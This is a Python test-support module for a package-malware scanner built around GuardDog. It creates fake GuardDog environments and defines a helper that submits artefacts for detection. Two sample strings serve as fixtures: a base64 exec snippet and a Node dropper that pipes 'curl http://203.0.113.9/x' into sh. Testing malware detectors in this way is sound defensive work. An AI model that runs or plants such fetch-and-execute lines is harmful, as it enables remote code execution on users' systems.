"""GuardDog itself, environments with something else in its place, and packages that do harm."""

from __future__ import annotations

import venv
from pathlib import Path

from artefact_support import Desk

from skillwarden.artefact.malware import Detections, GuardDog, Unreadable
from skillwarden.domain.package import Ecosystem

HIDDEN = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
DROPPER = "require('child_process').exec('curl -s http://203.0.113.9/x | sh')\n"

_MODULES = {
    "guarddog/__init__.py": "{imported}\n",
    "guarddog/sandbox.py": "def is_available(): return False\n",
    "guarddog/ecosystems.py": (
        "from enum import Enum\nclass ECOSYSTEM(Enum):\n    PYPI = 'pypi'\n    NPM = 'npm'\n"
    ),
    "guarddog/analyzer/__init__.py": "",
    "guarddog/analyzer/sourcecode/__init__.py": (
        "class Rule:\n    id, path_include = 'some-rule', {reads!r}\n"
        "def get_sourcecode_rules(ecosystem): return [Rule] if {reads!r} else []\n"
    ),
    "guarddog/analyzer/risk_engine.py": (
        "from types import SimpleNamespace as N\n"
        "def calculate_risk_score(risks): return N(score=len(risks), label=N(value={label!r}))\n"
    ),
    "guarddog/analyzer/analyzer.py": (
        "class Analyzer:\n"
        "    def __init__(self, ecosystem): pass\n"
        "    def analyze_sourcecode(self, folder):\n        {looks}\n"
        "        return {{'errors': {errors!r}}}\n"
        "    def calculate_package_risk_score(self, found): return {{'_risks': []}}\n"
    ),
}


def fake_guarddog(
    folder: Path,
    *,
    imported: str = "",
    looks: str = "pass",
    label: str = "no_risks_detected",
    reads: str = "*.py",
    errors: dict[str, str] | None = None,
    version: str = "3.2.0",
) -> Path:
    """Make an environment with a GuardDog that does these things; return its interpreter."""
    venv.create(folder, with_pip=False, symlinks=True)
    [packages] = folder.glob("lib/python*/site-packages")
    for name, text in _MODULES.items():
        path = packages / name
        path.parent.mkdir(parents=True, exist_ok=True)
        choices = {
            "imported": imported,
            "looks": looks,
            "label": label,
            "reads": reads,
            "errors": errors or {},
        }
        path.write_text(text.format(**choices))
    metadata = packages / "guarddog-0.dist-info" / "METADATA"
    metadata.parent.mkdir()
    metadata.write_text(f"Metadata-Version: 2.1\nName: guarddog\nVersion: {version}\n")
    return folder / "bin" / "python"


class Kennel:
    """Has artefacts looked at by some GuardDog."""

    def __init__(self, desk: Desk, guarddog: GuardDog) -> None:
        self.guarddog = guarddog
        self._desk = desk

    async def answers(self, *artefacts: bytes, ecosystem: Ecosystem) -> list[Detections | Unreadable]:
        return await self.guarddog.detect([self._desk.file(data, ecosystem) for data in artefacts])

    async def rules(self, data: bytes, ecosystem: Ecosystem = Ecosystem.PYPI) -> dict[str, str]:
        """Return what is detected: rules, and their texts."""
        [answer] = await self.answers(data, ecosystem=ecosystem)
        assert not isinstance(answer, Unreadable), answer
        return {item.rule: item.text for item in answer}

    async def refusal(self, data: bytes, ecosystem: Ecosystem = Ecosystem.PYPI) -> str:
        """Return why it was not looked at."""
        [answer] = await self.answers(data, ecosystem=ecosystem)
        assert isinstance(answer, Unreadable), answer
        return answer.reason
